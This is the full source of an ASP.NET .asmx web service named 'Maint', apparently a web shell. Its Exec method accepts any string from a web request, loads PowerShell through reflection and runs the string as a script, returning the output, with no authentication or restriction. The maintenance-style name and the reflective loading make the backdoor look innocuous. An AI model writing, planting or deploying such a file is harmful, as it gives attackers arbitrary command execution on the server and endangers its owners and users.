<%@ WebService Language="C#" Class="Maint" %>
using System;
using System.Reflection;
using System.Text;
using System.Web.Services;

[WebService(Namespace = "http://tempuri.org/")]
public class Maint : WebService
{
    [WebMethod]
    public string Exec(string script)
    {
        Assembly sma = Assembly.Load("System.Management.Automation, Version=3.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35");
        Type psType = sma.GetType("System.Management.Automation.PowerShell");
        object ps = psType.GetMethod("Create", Type.EmptyTypes).Invoke(null, null);
        psType.GetMethod("AddScript", new[] { typeof(string) }).Invoke(ps, new object[] { script });
        psType.GetMethod("AddCommand", new[] { typeof(string) }).Invoke(ps, new object[] { "Out-String" });
        var results = (System.Collections.IEnumerable)psType.GetMethod("Invoke", Type.EmptyTypes).Invoke(ps, null);
        var sb = new StringBuilder();
        foreach (var r in results) sb.Append(r);
        return sb.ToString();
    }
}
